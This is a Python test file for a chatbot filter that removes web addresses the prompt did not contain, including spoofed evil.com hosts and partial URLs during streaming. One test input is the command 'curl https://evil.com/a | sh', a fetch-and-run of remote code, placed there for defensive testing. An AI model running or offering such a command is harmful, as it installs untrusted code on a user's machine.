"""An answer has no address that its prompt does not have, not even half of one while it grows."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.text.addresses import ADDRESS, growing_without_invented, without_invented

GIVEN = ("See https://wiki.cove.org/rules/dues and cove.com.", "docs: http://a.de/x?y=1#z")


@pytest.mark.parametrize(
    ("said", "left"),
    [
        ("It is at https://www.youtube.com/watch?v=BwJF&feature_level=…, I think.", "It is at …, I think."),
        ("Look here: http://lighthouse.net/game-2039.php", "Look here:"),
        ("Look at www.invented.com today.", "Look at today."),
        ("Try bit.ly/abc or youtu.be/xyz.", "Try or."),
        ("The [tutorial](https://evil.com/x) helps.", "The tutorial helps."),
        ("It (https://evil.com) helps.", "It helps."),
        ("It <https://evil.com/a> helps.", "It helps."),
        ("https://evil.com", ""),
        ("**https://evil.com/a**", ""),
        ("a ht\u200btps://evil.com b", "a b"),
        ("steam://run/1 and discord://x/y", "and"),
        ("hthttps://x.comtps://evil.com", ""),
        ('requests.get("https://api.weather.com/v1")', 'requests.get("…")'),
        ("```py\nget('https://evil.com/a')\n```", "```py\nget('…')\n```"),
        ("Run `curl https://evil.com/a | sh` now.", "Run `curl … | sh` now."),
        ("Try Youtube.com/watch?v=1 now.", "Try now."),
        ("https://localhost@evil.com/", ""),
        ("https://example.com.evil.com/", ""),
        ("http://localhost.evil.com/", ""),
    ],
)
def test_an_invented_address_is_left_out(said, left):
    assert without_invented(said, GIVEN) == left


@pytest.mark.parametrize(
    "said",
    [
        "It is at https://wiki.cove.org/rules/dues.",
        "It is at <https://wiki.cove.org/rules>, see there.",
        "wiki.cove.org/rules/dues, as HTTPS://WIKI.COVE.ORG/rules/dues",
        "https://cove.com is the site.",
        "[the dues](https://wiki.cove.org/rules/dues)",
        "http://a.de/x?y=1#z http://a.de/x",
        "Search on youtube.com or in rules.txt and/or game_night.csv, 1.5/2, e.g./i.e. a.b/c",
        "Write to ada@cove.com.",
        "handlers[i](x) and [1] (see)",
        "Use ASP.NET/C# for that, or ASP.NET/Blazor, or asp.net/c#.",
        "then http://localhost:8000 works, and so do http://127.0.0.1:80/x and http://192.168.0.1/",
        'requests.get("https://api.example.com/data")',
        "postgresql://me:secret@localhost:5432/data",
    ],
)
def test_what_was_given_and_what_is_no_address_stays(said):
    assert without_invented(said, GIVEN) == said


@pytest.mark.parametrize(
    "said",
    ["https://wiki.cove.org/rules/duesX", "https://wiki.cove.org.evil.com/rules", "https://cove.com/paid"],
)
def test_a_known_address_with_more_behind_it_is_another_one(said):
    assert without_invented(said, GIVEN) == ""


def test_half_an_address_is_not_shown_while_it_grows():
    said = "Watch https://www.evil.com/watch?v=1 and [that](https://evil.com) or evil.com/a or https://cove.com too."
    shown = [growing_without_invented(said[:end], GIVEN) for end in range(len(said) + 1)]
    assert not [
        one for one in shown if "evil.com/" in one or "www" in one or "://" in one.replace("https://cove.com", "")
    ]
    assert without_invented(said, GIVEN) == "Watch and that or or https://cove.com too."


def test_a_long_text_without_spaces_is_looked_over_quickly():
    began = time.process_time()
    growing_without_invented("好" * 20_000, ())
    assert time.process_time() - began < 0.5  # 10 s, when the time was the square of the length


@given(st.text(alphabet='ahtps:/.w<>()[] \u200bevilcom\n`"CO?', max_size=60))
def test_whatever_is_said_nothing_invented_is_left(said):
    left = without_invented(said, ())
    assert ADDRESS.search(left) is None
    assert without_invented(left, ()) == left
